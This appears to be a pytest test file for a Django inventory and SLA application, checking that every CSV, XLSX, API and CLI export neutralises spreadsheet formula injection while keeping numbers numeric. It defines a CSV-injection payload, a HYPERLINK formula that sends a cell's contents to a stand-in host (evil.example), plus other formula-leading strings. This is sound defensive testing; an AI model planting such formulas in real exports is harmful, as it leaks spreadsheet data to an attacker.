"""No export runs a formula in the spreadsheet that opens it (issue 13, finding 5).

The attack: text a user or an operator controls (an establishment's name, a comment, a ticket
reference from an operator's import) starting with `=`, `+`, `-`, `@`, a tab or a CR, opened in
a spreadsheet from any export. Every writer neutralises it; numbers stay numbers; every export
imports back unchanged; in XLSX, text is never a formula.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from openpyxl import load_workbook
from typer.testing import CliRunner

from alerting.models import Ticket
from common.roles import ADMIN, READ
from core.accounts import set_role
from inventory.exporters import export_model
from inventory.importers import import_content
from inventory.models import Establishment
from menhir.cli import app
from sla.service import evaluate_month
from tests.factories.sla import NOW, at, small_month

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DANGEROUS = (PAYLOAD, "+33 2 98 00 00 00", "@SUM(1)", "-2+3", "\tTAB", "'=already quoted")


def _client(role: str) -> Client:
    user = get_user_model().objects.create_user(username=f"u-{role}")
    set_role(user, role)
    client = Client()
    client.force_login(user)
    return client


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r" or _is_number(cell), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def sites() -> list[Establishment]:
    month = small_month()
    sites = []
    for n, text in enumerate(DANGEROUS):
        site = month.link_a.establishment
        assert site is not None
        site.pk = None
        site.code, site.name, site.comments = f"X-{n}", text, text
        site.longitude, site.latitude = -3.5212, 48.3904
        site.save()
        sites.append(site)
    return sites


def test_inventory_exports_neutralise_text_and_keep_numbers(sites: Any) -> None:
    cli = CliRunner().invoke(app, ["inventory", "export", "establishments"])
    assert cli.exit_code == 0, cli.output
    reader = _client(READ)
    web = reader.get("/establishments/?export=csv").content.decode()
    api = reader.get("/api/inventory/establishments/?format=csv&limit=1000").content
    for text in (cli.stdout, web, api.decode()):
        rows = [r for r in _rows(text) if r.get("code", "").startswith("X-")]
        assert len(rows) == len(DANGEROUS)
        for row in rows:
            _no_formula(list(row.values()))
            assert row["longitude"] == "-3.5212"  # a number stays a number


def test_an_export_imports_back_unchanged(sites: Any) -> None:
    # (the importer trims the whitespace around every cell, the tab of "\tTAB" included)
    before = {s.code: (s.name.strip(), s.comments.strip()) for s in Establishment.objects.all()}
    text = export_model("establishments", "csv")
    Establishment.objects.filter(code__startswith="X-").update(name="changed", comments="")
    result = import_content(text.encode(), "csv", model="establishments")
    assert result.updated == len(DANGEROUS)
    after = {s.code: (s.name, s.comments) for s in Establishment.objects.all()}
    assert after == before


def test_the_sla_report_csv_and_xlsx_keep_a_ticket_reference_as_text() -> None:
    month = small_month()
    Ticket.objects.create(
        reference=PAYLOAD,
        operator=month.link_a.operator,
        link=month.link_a,
        opened_at=at(10, 10, 5),
        restored_at=at(10, 11),
        imputability="operator",
    )
    evaluate_month(month.contract, 2025, 6, now=NOW)
    client = _client(ADMIN)
    base = f"/sla/contracts/{month.contract.pk}/2025-06/"
    tickets = client.get(base + "report.csv?table=tickets").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(tickets)) for c in row]
    assert "'" + PAYLOAD in cells
    _no_formula(cells)
    book = load_workbook(io.BytesIO(client.get(base + "report.xlsx").content))
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == PAYLOAD
    ]
    assert found
    assert all(cell.data_type == "s" for cell in found)  # text, not a formula
    numbers = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, int | float)
    ]
    assert numbers  # the figures are still numbers
